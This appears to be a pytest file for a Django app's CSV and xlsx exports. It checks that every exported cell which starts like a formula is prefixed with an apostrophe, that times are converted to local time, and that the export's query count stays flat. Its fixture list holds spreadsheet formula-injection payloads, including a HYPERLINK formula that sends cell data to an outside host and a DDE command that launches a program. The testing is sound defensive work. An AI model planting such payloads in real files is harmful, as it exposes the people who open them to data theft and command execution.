"""The admin's django-import-export resources (tasks.resources): what their files hold.

The admin's export view itself (formats, file names, the real POST) is tested in test_admin.py;
here the resources' own output: no cell a spreadsheet would run, no raw value, local times."""

from __future__ import annotations

import csv
import datetime as dt
import io
from collections.abc import Iterable

import openpyxl
import pytest

from tasks.models import (
    Category,
    Leader,
    Plan,
    PlanKind,
    Project,
    Task,
    TaskLeader,
    TaskUnit,
    Unit,
    UnitAlias,
    UnitKind,
    UnitRole,
)
from tasks.resources import LeaderResource, TaskResource, UnitResource
from tasks.services import task_status_refresh

pytestmark = pytest.mark.django_db

# Text a spreadsheet runs (or that hides such a start), as found in imported documents.
DANGEROUS = (
    '=HYPERLINK("http://e.cn/?l="&D5,"点")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
)
# Written out here, not imported from the product: the test must not share the code it checks.
LIVE_STARTS = ("=", "+", "-", "@", "\t", "\r")


def hostile_plan_build() -> Plan:
    """A plan whose every name and text starts like a formula: plan, category, project, and
    per dangerous start a task, its lead unit (with an alias) and its leader (with a title)."""
    plan = Plan.objects.create(title="-2030年计划", kind=PlanKind.ANNUAL, year_start=2030, year_end=2030)
    category = Category.objects.create(plan=plan, order=1, name="=类别")
    project = Project.objects.create(category=category, order=1, name="@项目")
    tasks = []
    for i, text in enumerate(DANGEROUS, start=1):
        unit = Unit.objects.create(name=f"{text}单位{i}")
        UnitAlias.objects.create(unit=unit, name=f"{text}别名{i}")
        leader = Leader.objects.create(name=f"{text}领导{i}", title=f"{text}职务")
        task = Task.objects.create(
            plan=plan, category=category, project=project, number=str(i), position=i, text=text, title=text[:30]
        )
        TaskUnit.objects.create(task=task, unit=unit, position=1, role=UnitRole.LEAD, printed_name=unit.name)
        TaskLeader.objects.create(task=task, leader=leader, position=1)
        tasks.append(task.pk)
    task_status_refresh(task_ids=tasks)
    return plan


def assert_no_live_cell(values: Iterable[object]) -> int:
    """No text value starts like a formula (the guard is a leading apostrophe); returns how many were seen."""
    seen = 0
    for value in values:
        seen += 1
        assert not (isinstance(value, str) and value.startswith(LIVE_STARTS)), repr(value)
    return seen


def xlsx_cells(data: bytes) -> list[openpyxl.cell.cell.Cell]:
    """Every cell of every sheet; none may be a formula cell."""
    book = openpyxl.load_workbook(io.BytesIO(data))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    formulas = [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert formulas == [], formulas
    return cells


def csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _csv_and_xlsx(resource, queryset) -> tuple[list[list[str]], list[list[object]]]:
    dataset = resource.export(queryset=queryset)
    rows = csv_rows(dataset.export("csv"))
    cells = xlsx_cells(dataset.export("xlsx"))
    book_rows: dict[int, list[object]] = {}
    for cell in cells:
        book_rows.setdefault(cell.row, []).append(cell.value)
    return rows, list(book_rows.values())


def test_task_export_guards_every_cell_and_reads_as_people_read():
    plan = hostile_plan_build()
    Task.objects.filter(plan=plan, number="1").update(
        city_level=True,
        due_date=dt.date(2030, 12, 31),
        # 17:30 UTC is 01:30 the next day in Shanghai: the date must move too.
        updated_at=dt.datetime(2030, 6, 10, 17, 30, tzinfo=dt.UTC),
    )
    rows, book = _csv_and_xlsx(TaskResource(), Task.objects.filter(plan=plan).order_by("position"))
    for table in (rows, book):
        header, *body = table
        assert header == [
            "规划",
            "类别",
            "项目",
            "序号",
            "任务",
            "牵头领导",
            "牵头单位",
            "市级任务",
            "截止日期",
            "状态",
            "更新时间",
        ]
        assert assert_no_live_cell(value for row in table for value in row) == (1 + len(DANGEROUS)) * 11
        first = dict(zip(header, body[0], strict=True))
        assert (first["规划"], first["类别"], first["项目"]) == ("'-2030年计划", "'=类别", "'@项目")
        assert first["任务"] == "'" + DANGEROUS[0]
        assert first["牵头领导"] == "'" + DANGEROUS[0] + "领导1" and first["牵头单位"] == "'" + DANGEROUS[0] + "单位1"
        assert (first["市级任务"], first["截止日期"], first["状态"]) == ("是", "2030-12-31", "有效")
        assert first["更新时间"] == "2030-06-11 01:30"
        second = dict(zip(header, body[1], strict=True))
        assert second["市级任务"] == "否" and not second["截止日期"]  # xlsx reads an empty cell as None
        # The CSV keeps the hidden starts exactly (xlsx turns a stored CR into a line feed).
        assert [row[4] for row in rows[1:]] == ["'" + text for text in DANGEROUS]


def test_unit_and_leader_exports_guard_every_cell():
    hostile_plan_build()
    rows, book = _csv_and_xlsx(UnitResource(), Unit.objects.filter(name__endswith="单位1"))
    for table in (rows, book):
        assert table[0] == ["规范名称", "类型", "别名"]
        assert assert_no_live_cell(value for row in table for value in row) == 2 * 3
        assert table[1] == ["'" + DANGEROUS[0] + "单位1", UnitKind.DEPARTMENT.label, "'" + DANGEROUS[0] + "别名1"]
    rows, book = _csv_and_xlsx(LeaderResource(), Leader.objects.filter(name__startswith="+"))
    for table in (rows, book):
        assert table == [["姓名", "职务"], ["'+1+1领导3", "'+1+1职务"]]


def test_the_task_export_keeps_its_query_count_flat(django_assert_max_num_queries):
    """The admin hands over its own queryset: the resource adds the joins and prefetches."""
    plan = hostile_plan_build()
    # A count, the tasks, the leader links and leaders, the unit links and units: 7 tasks would cost 14 more without.
    with django_assert_max_num_queries(6):
        dataset = TaskResource().export(queryset=Task.objects.filter(plan=plan))
    assert len(dataset) == len(DANGEROUS)
